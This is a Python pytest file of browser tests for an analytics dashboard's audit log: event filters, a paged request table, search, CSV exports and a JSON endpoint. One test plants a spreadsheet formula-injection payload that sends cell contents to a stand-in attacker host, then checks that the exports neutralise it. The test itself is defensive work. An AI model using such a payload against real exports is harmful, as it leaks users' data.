"""The audit log in a real browser on the demo workspace: events filtered by kind (a pasted statement is a
billing event), and the captured requests (one row per synced call, the marts' rows) paged, searchable, filtered by
the rail, exported as the CSV of the visible rows, each row leading to its trace."""

from __future__ import annotations

import csv
import io
from datetime import UTC, date, datetime, timedelta
from decimal import Decimal

import psycopg
import pytest

from dashboard_clients import csrf, signed_in
from halton_api.charts import unit_money

PASTE_PROVIDER, PASTE_MONTH = "openai", "2024-02"  # long before the demo: no figure other tests read changes
NEWEST = "SELECT toString(request_uid), provider_request_id, cost_usd FROM {marts}.requests WHERE workspace_id = '{ws}'"


@pytest.fixture
def pasted_statement(demo_cloud, built_demo):
    """A statement pasted by the owner through the page (then removed; its audit events stay, as they should)."""
    owner = signed_in(demo_cloud.url, built_demo.owner_email)
    path = f"/{built_demo.slug}/reconciliation"
    response = owner.post(
        f"{path}/statements",
        data={
            "csrf_token": csrf(owner, path),
            "provider": PASTE_PROVIDER,
            "month": PASTE_MONTH,
            "amount": "9.99",
        },
    )
    assert response.status_code == 303, response.text
    yield owner
    with psycopg.connect(built_demo.database_url) as conn:
        conn.execute(
            "DELETE FROM billing_statements WHERE provider = %s AND period = %s",
            (PASTE_PROVIDER, date.fromisoformat(f"{PASTE_MONTH}-01")),
        )


def test_events_filtered_by_kind(demo_page, built_demo, pasted_statement, artifacts_dir) -> None:
    demo_page.open("/{ws}/audit")
    page = demo_page.page
    page.click("nav.tabs a[data-kind=billing]")
    page.wait_for_url("**kind=billing**")
    events = demo_page.table("events")
    assert events and all(row[2].startswith(("billing.", "report.")) for row in events)
    assert any(
        row[2] == "billing.statement_pasted" and f"{PASTE_PROVIDER} {PASTE_MONTH}" in row[3] for row in events
    )
    # The details read as key/value text, not JSON with its escapes.
    pasted = next(row for row in events if row[2] == "billing.statement_pasted")
    assert "amount_usd: 9.99" in pasted[4] and "{" not in pasted[4] and "\\u" not in pasted[4]
    demo_page.screenshot(artifacts_dir, "audit-events")
    page.click("nav.tabs a[data-kind=device]")
    page.wait_for_url("**kind=device**")
    assert not any("billing." in row[2] for row in demo_page.table("events"))
    exported = pasted_statement.get(f"/{built_demo.slug}/audit.csv", params={"kind": "billing"})
    rows = list(csv.DictReader(io.StringIO(exported.text)))
    assert rows and {r["event"].split(".")[0] for r in rows} <= {"billing", "report"}
    assert pasted_statement.get(f"/v1/{built_demo.slug}/audit", params={"kind": "bogus"}).status_code == 422
    body = pasted_statement.get(f"/v1/{built_demo.slug}/audit", params={"kind": "billing"}).json()
    assert body["events"][0]["event"].startswith("billing.statement_")


def visible(demo_page) -> list[str]:
    rows = demo_page.page.locator("table[data-table=requests] tbody tr")
    return [rows.nth(i).get_attribute("data-request") for i in range(rows.count())]


def test_captured_requests_are_the_marts_and_the_csv_is_the_visible_rows(
    demo_page, built_demo, artifacts_dir
) -> None:
    demo_page.open("/{ws}/audit")
    page = demo_page.page
    page.locator("nav.tabs a", has_text="Captured requests").click()
    page.wait_for_url("**/audit/requests**")
    first = datetime.now(UTC).date() - timedelta(days=29)
    expected = built_demo.query(
        NEWEST + " AND day >= %(d)s ORDER BY started_at DESC, request_uid DESC LIMIT 100", d=first
    )
    assert visible(demo_page) == [uid for uid, _, _ in expected]
    shown = demo_page.table("requests")
    assert [row[6] for row in shown[:5]] == [unit_money(cost) for _, _, cost in expected[:5]]
    assert [row[7] for row in shown[:5]] == [rid or "—" for _, rid, _ in expected[:5]]
    trace = page.locator("table[data-table=requests] tbody tr").first.locator("a").get_attribute("href")
    assert trace == f"/{built_demo.slug}/traces/{expected[0][0]}"
    demo_page.screenshot(artifacts_dir, "audit-requests")
    # The CSV is the rows on the page, in the same order, with their exact costs.
    href = page.locator("a[data-csv]").get_attribute("href")
    exported = page.request.get(href)
    assert exported.ok and exported.headers["content-type"].startswith("text/csv")
    rows = list(csv.DictReader(io.StringIO(exported.text())))
    assert [r["request_uid"] for r in rows] == visible(demo_page)
    assert [Decimal(r["cost_usd"]) for r in rows] == [cost for _, _, cost in expected]
    assert [r["provider_request_id"] for r in rows[:3]] == [rid or "" for _, rid, _ in expected[:3]]
    # Older: the next 100 by the keyset cursor.
    page.click("nav.pager a[rel=next]")
    page.wait_for_url("**cursor=**")
    older = built_demo.query(
        NEWEST + " AND day >= %(d)s ORDER BY started_at DESC, request_uid DESC LIMIT 100 OFFSET 100", d=first
    )
    assert visible(demo_page) == [uid for uid, _, _ in older]
    again = list(
        csv.DictReader(
            io.StringIO(page.request.get(page.locator("a[data-csv]").get_attribute("href")).text())
        )
    )
    assert [r["request_uid"] for r in again] == visible(demo_page)


def test_search_and_filters(demo_page, built_demo, artifacts_dir) -> None:
    # A call from two months ago, found by its provider request id although the rail shows 30 days.
    uid, rid = built_demo.query(
        "SELECT toString(request_uid), provider_request_id FROM {marts}.requests WHERE workspace_id = '{ws}'"
        " AND day = %(d)s AND provider_request_id IS NOT NULL ORDER BY request_uid LIMIT 1",
        d=datetime.now(UTC).date() - timedelta(days=60),
    )[0]
    demo_page.open("/{ws}/audit/requests")
    page = demo_page.page
    page.fill("input[name=q]", rid)
    page.click("form.search button[type=submit]")
    page.wait_for_url("**q=**")
    assert visible(demo_page) == [uid]
    demo_page.open(f"/{{ws}}/audit/requests?q={uid}")  # the reconciliation's "Audit" link
    assert visible(demo_page) == [uid]
    # The rail: one provider, the URL says so, every row is that provider's.
    demo_page.open("/{ws}/audit/requests")
    page.locator("details.multi summary", has_text="Provider").click()
    page.check("input[name=provider][value=gemini]")
    page.locator("details.multi summary", has_text="Provider").click()
    page.click("form[data-rail] button[type=submit]")
    page.wait_for_url("**provider=gemini**")
    expected = built_demo.query(
        NEWEST
        + " AND provider = 'gemini' AND day >= %(d)s ORDER BY started_at DESC, request_uid DESC LIMIT 100",
        d=datetime.now(UTC).date() - timedelta(days=29),
    )
    assert visible(demo_page) == [u for u, _, _ in expected]
    cells = demo_page.page.locator("table[data-table=requests] tbody tr td:nth-child(2)")
    assert {cells.nth(i).get_attribute("title") for i in range(cells.count())} == {"gemini"}
    demo_page.screenshot(artifacts_dir, "audit-requests-gemini")


def test_the_json_twin(demo_cloud, built_demo) -> None:
    client = signed_in(demo_cloud.url, built_demo.owner_email)
    body = client.get(
        f"/v1/{built_demo.slug}/audit/requests", params={"range": "7d", "provider": "xai"}
    ).json()
    first = datetime.now(UTC).date() - timedelta(days=6)
    expected = built_demo.query(
        NEWEST
        + " AND provider = 'xai' AND day >= %(d)s ORDER BY started_at DESC, request_uid DESC LIMIT 100",
        d=first,
    )
    assert [r["request_uid"] for r in body["rows"]] == [u for u, _, _ in expected]
    assert all(r["provider"] == "xai" for r in body["rows"])
    bad = client.get(f"/v1/{built_demo.slug}/audit/requests", params={"cursor": "forged"})
    assert bad.status_code == 422 and bad.json()["detail"].startswith("cursor")


def test_every_csv_neutralises_a_formula_a_device_name_carries(demo_cloud, built_demo) -> None:
    """A device's name is typed by an admin (or is the laptop's hostname): in each CSV the product serves it is
    text a spreadsheet shows, never a formula it runs; costs stay numbers."""
    project = "acme-batch-summariser"
    ws = built_demo.slug
    ((device_id,),) = built_demo.query(
        "SELECT toString(device_id) FROM {marts}.requests WHERE workspace_id = '{ws}' AND project = %(p)s"
        " AND day >= %(d)s ORDER BY started_at DESC, request_uid DESC LIMIT 1",
        p=project, d=datetime.now(UTC).date() - timedelta(days=29),
    )  # fmt: skip
    with psycopg.connect(built_demo.database_url) as conn:
        (original,) = conn.execute("SELECT name FROM devices WHERE id = %s", (device_id,)).fetchone()
    formula = '=HYPERLINK("http://evil.example/?"&A1,"open")'
    owner = signed_in(demo_cloud.url, built_demo.owner_email)
    devices = f"/{ws}/settings/devices"

    def exported(path: str) -> list[dict[str, str]]:
        response = owner.get(path)
        assert response.status_code == 200 and response.headers["content-type"].startswith("text/csv")
        return list(csv.DictReader(io.StringIO(response.text, newline="")))

    try:
        response = owner.post(
            f"{devices}/{device_id}/rename", data={"csrf_token": csrf(owner, devices), "name": formula}
        )
        assert response.status_code == 303, response.text
        for path in (f"/{ws}/projects/{project}/requests.csv", f"/{ws}/audit/requests.csv?project={project}"):
            rows = exported(path)
            assert rows[0]["device"] == "'" + formula, path
            assert not [c for r in rows for c in r.values() if c.startswith(("=", "+", "-", "@", "\t", "\r"))]
            assert all(Decimal(r["cost_usd"]) >= 0 for r in rows)  # plain numbers, as they were
        renamed = [r for r in exported(f"/{ws}/audit.csv?kind=device") if r["event"] == "device.renamed"]
        assert renamed[0]["resource_label"] == "'" + formula
    finally:
        owner.close()
        with psycopg.connect(built_demo.database_url) as conn:  # exactly as it was, for the other tests
            conn.execute("UPDATE devices SET name = %s WHERE id = %s", (original, device_id))
